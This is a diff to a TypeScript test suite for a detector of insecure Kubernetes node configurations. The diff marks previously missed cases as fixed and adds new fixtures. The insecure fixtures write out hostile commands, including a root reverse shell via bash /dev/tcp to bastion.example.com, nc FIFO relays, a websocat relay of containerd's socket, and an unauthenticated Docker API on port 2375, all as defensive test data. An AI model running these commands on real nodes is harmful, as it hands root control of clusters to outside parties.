@@ -50,7 +50,7 @@ const MOUNT = /containerd|socket|runtime|user|run|hostPath|node|podman|link/;
 
 const insecure: NodeCase[] = [
     // --- Dial-out relays beyond the round-56 list ---
-    // MISS: websocat README (vi/websocat, "websocat [FLAGS] <addr1> <addr2>": it connects both addresses and relays between
+    // Was a MISS (fixed in round 57): websocat README (vi/websocat, "websocat [FLAGS] <addr1> <addr2>": it connects both addresses and relays between
     // them): a ws:// client to bastion.example.com and tcp:127.0.0.1:8000 hand miniserve / (root's files) to whoever holds the
     // bastion's WebSocket endpoint; dialledOutForwarders reads socat/ncat/chisel/cloudflared/ngrok/bore/frpc, not websocat.
     devNodeCase(
@@ -60,7 +60,6 @@ const insecure: NodeCase[] = [
             "nohup websocat -E --binary ws://bastion.example.com:8080/relay tcp:127.0.0.1:8000 &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "autossh -M 0 -f -N -R 8080:127.0.0.1:8000 ops@bastion.example.com before miniserve /",
@@ -70,7 +69,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: nc(1)/ncat: two clients joined by a pipe and a FIFO (the classic relay) connect bastion.example.com:4444 to
+    // Was a MISS (fixed in round 57): nc(1)/ncat: two clients joined by a pipe and a FIFO (the classic relay) connect bastion.example.com:4444 to
     // miniserve / on loopback; no reader sees a relay in a pipeline of two network clients (fail closed on a FIFO joining them).
     devNodeCase(
         "mkfifo /tmp/f; nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f (a pipe relay) before miniserve /",
@@ -80,9 +79,8 @@ const insecure: NodeCase[] = [
             "nohup sh -c 'nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f' &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) REDIRECTION: "/dev/tcp/host/port ... bash attempts to open the corresponding TCP socket": root's
+    // Was a MISS (fixed in round 57): bash(1) REDIRECTION: "/dev/tcp/host/port ... bash attempts to open the corresponding TCP socket": root's
     // interactive shell on the node is handed to whoever holds bastion.example.com:4444 (the node role, every pod's token).
     devNodeCase(
         "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1 (a root reverse shell)",
@@ -90,9 +88,8 @@ const insecure: NodeCase[] = [
             "nohup bash -c 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1' &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: rathole README (rapiz1/rathole, client.toml: [client] remote_addr, [client.services.X] local_addr "the address
+    // Was a MISS (fixed in round 57): rathole README (rapiz1/rathole, client.toml: [client] remote_addr, [client.services.X] local_addr "the address
     // of the service that needs to be forwarded"): the server exposes miniserve / on its bind_addr; not read as frpc is.
     devNodeCase(
         "rathole /etc/rathole/client.toml (service local_addr 127.0.0.1:8000, remote_addr bastion) before miniserve /",
@@ -109,17 +106,15 @@ const insecure: NodeCase[] = [
             "nohup rathole /etc/rathole/client.toml &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: localtunnel README (localtunnel/localtunnel, `lt --port 8000`: "your url is: https://....loca.lt"): a public
+    // Was a MISS (fixed in round 57): localtunnel README (localtunnel/localtunnel, `lt --port 8000`: "your url is: https://....loca.lt"): a public
     // URL relayed to localhost:8000, i.e. miniserve /; not read as ngrok/bore are.
     devNodeCase(
         "lt --port 8000 --subdomain node-files (localtunnel, a public loca.lt URL) before miniserve /",
         devNodeScript("dev-localtunnel-lo-nodes", [LO_ROOT, "nohup lt --port 8000 --subdomain node-files &"]),
         RELAY,
-        true,
     ),
-    // MISS: Tailscale docs, "tailscale funnel command": "tailscale funnel lets you share a local service over the
+    // Was a MISS (fixed in round 57): Tailscale docs, "tailscale funnel command": "tailscale funnel lets you share a local service over the
     // internet" (target a port: localhost:8000); miniserve / becomes public; not read as cloudflared/ngrok are (tailscale
     // serve, tailnet-only, is the same relay to every tailnet member).
     devNodeCase(
@@ -130,7 +125,6 @@ const insecure: NodeCase[] = [
             "tailscale funnel --bg 8000",
         ]),
         RELAY,
-        true,
     ),
     // --- Dial-out relays of instance metadata (the node role) ---
     devNodeCase(
@@ -205,7 +199,7 @@ const insecure: NodeCase[] = [
         },
         MOUNT,
     ),
-    // MISS: systemd.exec(5) BindPaths=: "Configures unit-specific bind mounts ... source path:destination path": in the
+    // Was a MISS (fixed in round 57): systemd.exec(5) BindPaths=: "Configures unit-specific bind mounts ... source path:destination path": in the
     // unit's namespace /run/relay.sock IS containerd's socket, so socat relays containerd to every address; BindPaths=
     // is not read as a link (writtenLinks reads ln, cp -s/-l, tmpfiles.d L).
     devNodeCase(
@@ -218,7 +212,6 @@ const insecure: NodeCase[] = [
             ]),
         ),
         SOCKET,
-        true,
     ),
     devNodeCase(
         "socat TCP-LISTEN:10000,fork GOPEN:/run/containerd/containerd.sock (GOPEN connects to a socket)",
@@ -228,7 +221,7 @@ const insecure: NodeCase[] = [
         SOCKET,
     ),
     // --- Socket units and root-power APIs ---
-    // MISS: systemd.unit(5), drop-in directories: besides foo.socket.d/, the unit-type directory socket.d/ holds
+    // Was a MISS (fixed in round 57): systemd.unit(5), drop-in directories: besides foo.socket.d/, the unit-type directory socket.d/ holds
     // drop-ins applied to every socket unit (systemd 246+; AL2023 has 252): docker.socket listens on 0.0.0.0:2375, the root
     // Docker API, unauthenticated, to every pod; ROOT_API_SOCKET_UNITS reads docker.socket.d/ only.
     devNodeCase(
@@ -241,9 +234,8 @@ const insecure: NodeCase[] = [
             "systemctl enable --now docker.socket",
         ]),
         SOCKET,
-        true,
     ),
-    // MISS: systemd.socket(5) Service=: "Specifies the service unit name to activate on incoming traffic"; dockerd's
+    // Was a MISS (fixed in round 57): systemd.socket(5) Service=: "Specifies the service unit name to activate on incoming traffic"; dockerd's
     // packaged ExecStart `-H fd://` takes every socket systemd passes (Docker docs, dockerd "-H fd://" socket activation):
     // the root Docker API on 0.0.0.0:2375. Only docker.socket/podman.socket (and own units running dockerd/podman) are read.
     devNodeCase(
@@ -263,9 +255,8 @@ const insecure: NodeCase[] = [
             "systemctl enable --now docker-tcp.socket docker.service",
         ]),
         SOCKET,
-        true,
     ),
-    // MISS: podman-system-service(1): the API (root's, rootful) listens on the URI given; a socket on a read-only mount
+    // Was a MISS (fixed in round 57): podman-system-service(1): the API (root's, rootful) listens on the URI given; a socket on a read-only mount
     // still accepts connect() (podSpec.ts NODE_SECRETS /run/nri note), and a uid-0 pod passes its root:root mode: the pod
     // runs privileged containers on the node. podmanServiceOpenings counts only pod-WRITABLE directories.
     devNodeCase(
@@ -278,7 +269,6 @@ const insecure: NodeCase[] = [
             hostPathDaemonSet(r, "podman-api", "tools", "/run/podman-api", rootNoCaps, true, "Directory");
         },
         MOUNT,
-        true,
     ),
     devNodeCase(
         "ncat --sh-exec 'socat - UNIX-CONNECT:/run/containerd/containerd.sock' bastion.example.com 4444 (connect mode)",
@@ -304,7 +294,7 @@ const insecure: NodeCase[] = [
         MOUNT,
     ),
     // --- Proxies and tunnel servers ---
-    // MISS: chisel README (`chisel server --help`): "--backend, Specifies another HTTP server to proxy requests to when
+    // Was a MISS (fixed in round 57): chisel README (`chisel server --help`): "--backend, Specifies another HTTP server to proxy requests to when
     // chisel receives a normal HTTP request": --auth guards tunnels only, so miniserve / is served on every address
     // unauthenticated; chiselListeners returns nothing once --auth is given and never reads --backend.
     devNodeCase(
@@ -314,9 +304,8 @@ const insecure: NodeCase[] = [
             "nohup chisel server --port 8080 --auth ops:s3cret --backend http://127.0.0.1:8000 &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: 3proxy's packaged unit (3proxy/3proxy scripts/3proxy.service: ExecStart=/bin/3proxy ${CONFIGFILE},
+    // Was a MISS (fixed in round 57): 3proxy's packaged unit (3proxy/3proxy scripts/3proxy.service: ExecStart=/bin/3proxy ${CONFIGFILE},
     // CONFIGFILE=/etc/3proxy/3proxy.cfg) runs the open proxy user data wrote (proxy(8) -i: "By default connection to any
     // interface is accepted"): instance metadata to every pod; `systemctl enable --now 3proxy` is not read as running it.
     devNodeCase(
@@ -328,7 +317,6 @@ const insecure: NodeCase[] = [
             "systemctl enable --now 3proxy",
         ]),
         PROXY,
-        true,
     ),
     devNodeCase(
         "pproxy -l http://:8080 -l socks5://127.0.0.1:1080 (the second listener loopback, the first every address)",
@@ -342,6 +330,72 @@ const insecure: NodeCase[] = [
             "nohup 3proxy /etc/3proxy.cfg &",
         ]),
         PROXY,
+    ),
+    // Round 57 neighbours of the fixes: the same classes under other spellings.
+    devNodeCase(
+        "nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f (a pipe relay on the script's own line)",
+        devNodeScript("dev-nc-fifo-toplevel-lo-nodes", [
+            LO_ROOT,
+            "mkfifo /tmp/f",
+            "nc bastion.example.com 4444 < /tmp/f | nc 127.0.0.1 8000 > /tmp/f &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "rtunnel --server tunnel.example.com:443 --local 127.0.0.1:8000 (a relay program no reader knows) before miniserve /",
+        devNodeScript("dev-unknown-relay-lo-nodes", [
+            LO_ROOT,
+            "nohup rtunnel --server tunnel.example.com:443 --local 127.0.0.1:8000 &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "tailscale serve --bg 8000 (every tailnet member to localhost:8000) before miniserve /",
+        devNodeScript("dev-tailscale-serve-lo-nodes", [
+            LO_ROOT,
+            'tailscale up --auth-key "$TS_AUTHKEY"',
+            "tailscale serve --bg 8000",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "websocat ws://bastion.example.com/relay unix:/run/containerd/containerd.sock (a reverse relay of containerd)",
+        devNodeScript("dev-websocat-reverse-containerd-nodes", [
+            "nohup websocat -E --binary ws://bastion.example.com/relay unix:/run/containerd/containerd.sock &",
+        ]),
+        SOCKET,
+    ),
+    devNodeCase(
+        "docker installed; /etc/systemd/system/socket.d/90-tcp.conf ListenStream=2375 (a bare port: every address)",
+        devNodeScript("dev-socket-d-port-docker-nodes", [
+            "dnf install -y docker",
+            "mkdir -p /etc/systemd/system/socket.d",
+            ...file("/etc/systemd/system/socket.d/90-tcp.conf", ["[Socket]", "ListenStream=2375"]),
+            "systemctl enable --now docker.socket",
+        ]),
+        SOCKET,
+    ),
+    devNodeCase(
+        "podman system service unix:///opt/podman/api.sock; a root DaemonSet mounting /opt/podman read-only",
+        (r: Resources) => {
+            devNodeScript("dev-podman-api-opt-nodes", [
+                "mkdir -p /opt/podman",
+                "nohup podman system service --time=0 unix:///opt/podman/api.sock &",
+            ])(r);
+            hostPathDaemonSet(r, "podman-opt", "tools", "/opt/podman", rootNoCaps, true, "Directory");
+        },
+        MOUNT,
+    ),
+    devNodeCase(
+        "a unit with BindReadOnlyPaths=/run/containerd:/run/ctr running socat TCP-LISTEN:10000 to /run/ctr/containerd.sock",
+        devNodeScript(
+            "dev-bindropaths-containerd-nodes",
+            systemdUnit("ctr-relay-ro", [
+                "BindReadOnlyPaths=/run/containerd:/run/ctr",
+                "ExecStart=/usr/bin/socat TCP-LISTEN:10000,fork UNIX-CONNECT:/run/ctr/containerd.sock",
+            ]),
+        ),
+        SOCKET,
     ),
 ];
 
@@ -359,15 +413,14 @@ const secure: NodeCase[] = [
             'nohup chisel server --port 8080 --auth "$CHISEL_AUTH" &',
         ]),
     ),
-    // MISS (secure refused): chisel README, `chisel server --help`: "--host ... (defaults the environment variable HOST
+    // Was a MISS (secure refused, fixed in round 57): chisel README, `chisel server --help`: "--host ... (defaults the environment variable HOST
     // and falls back to 0.0.0.0)": HOST=127.0.0.1 binds loopback; chiselListeners reads only --host.
     devNodeCase(
         "HOST=127.0.0.1 chisel server --port 8080 (the HOST variable: loopback only)",
         devNodeScript("dev-chisel-server-host-env-nodes", ["HOST=127.0.0.1 nohup chisel server --port 8080 &"]),
         undefined,
-        true,
     ),
-    // MISS (secure refused): proxy(8): "proxy [-d][-a] [-l[[@]logfile]] [-pport] [-iinternal_ip]": -l takes an OPTIONAL
+    // Was a MISS (secure refused, fixed in round 57): proxy(8): "proxy [-d][-a] [-l[[@]logfile]] [-pport] [-iinternal_ip]": -l takes an OPTIONAL
     // glued log file; threeProxyServices' getopt reads `-l/var/lib/...` as a bundle whose `i` takes "b/3proxy/proxy.log"
     // as a listen address ("3proxy proxy on 127.0.0.1, b/3proxy/proxy.log").
     devNodeCase(
@@ -378,7 +431,6 @@ const secure: NodeCase[] = [
             "nohup 3proxy /etc/3proxy.cfg &",
         ]),
         undefined,
-        true,
     ),
     devNodeCase(
         "ordinary links (localtime, aws on PATH) beside socat TCP-LISTEN:5432,bind=127.0.0.1 to db.internal.example.com",
@@ -407,6 +459,75 @@ const secure: NodeCase[] = [
     devNodeCase(
         "podman system service --time=0 (its default socket /run/podman/podman.sock)",
         devNodeScript("dev-podman-service-default-nodes", ["nohup podman system service --time=0 &"]),
+    ),
+    // Round 57 neighbours of the fixes, secure.
+    devNodeCase(
+        "nc db.internal.example.com 5432 < /tmp/f | nc 10.0.5.20 5432 > /tmp/f (a pipe between two other hosts)",
+        devNodeScript("dev-nc-fifo-remote-remote-nodes", [
+            "mkfifo /tmp/f",
+            "nohup sh -c 'nc db.internal.example.com 5432 < /tmp/f | nc 10.0.5.20 5432 > /tmp/f' &",
+        ]),
+    ),
+    devNodeCase(
+        "bash -c 'echo ping > /dev/tcp/health.example.com/80' (a probe, no shell on the connection)",
+        devNodeScript("dev-bash-devtcp-probe-nodes", ["bash -c 'echo ping > /dev/tcp/health.example.com/80'"]),
+    ),
+    devNodeCase(
+        "rathole client.toml with local_addr 10.0.5.20:8000 (another host's service, nothing of the node's)",
+        devNodeScript("dev-rathole-client-remote-nodes", [
+            "mkdir -p /etc/rathole",
+            ...file("/etc/rathole/client.toml", [
+                "[client]",
+                'remote_addr = "bastion.example.com:2333"',
+                "[client.services.files]",
+                'local_addr = "10.0.5.20:8000"',
+            ]),
+            "nohup rathole /etc/rathole/client.toml &",
+        ]),
+    ),
+    devNodeCase(
+        "tailscale funnel reset before miniserve / (turns Funnel off)",
+        devNodeScript("dev-tailscale-funnel-reset-nodes", [LO_ROOT, "tailscale funnel reset"]),
+    ),
+    devNodeCase(
+        "chisel server --port 8080 --auth ops:s3cret --backend http://10.0.5.20:8000 (another host's server)",
+        devNodeScript("dev-chisel-backend-remote-nodes", [
+            "nohup chisel server --port 8080 --auth ops:s3cret --backend http://10.0.5.20:8000 &",
+        ]),
+    ),
+    devNodeCase(
+        "3proxy's packaged unit reading /etc/3proxy/3proxy.cfg with auth strong",
+        devNodeScript("dev-3proxy-packaged-strong-nodes", [
+            "dnf install -y 3proxy",
+            "mkdir -p /etc/3proxy",
+            ...file("/etc/3proxy/3proxy.cfg", [
+                "nserver 10.100.0.10",
+                "users ops:CL:s3cret",
+                "auth strong",
+                "allow ops",
+                "proxy -p3128",
+            ]),
+            "systemctl enable --now 3proxy",
+        ]),
+    ),
+    devNodeCase(
+        "docker installed; a top-level socket.d drop-in only tightening SocketMode=0600",
+        devNodeScript("dev-socket-d-mode-nodes", [
+            "dnf install -y docker",
+            "mkdir -p /etc/systemd/system/socket.d",
+            ...file("/etc/systemd/system/socket.d/10-mode.conf", ["[Socket]", "SocketMode=0600"]),
+            "systemctl enable --now docker.socket",
+        ]),
+    ),
+    devNodeCase(
+        "a unit with BindReadOnlyPaths=/etc/pki/tls/certs running socat TCP-LISTEN:5432,bind=127.0.0.1 to a database",
+        devNodeScript(
+            "dev-bindropaths-certs-nodes",
+            systemdUnit("db-relay", [
+                "BindReadOnlyPaths=/etc/pki/tls/certs",
+                "ExecStart=/usr/bin/socat TCP-LISTEN:5432,bind=127.0.0.1,reuseaddr,fork TCP:db.internal.example.com:5432",
+            ]),
+        ),
     ),
 ];
 
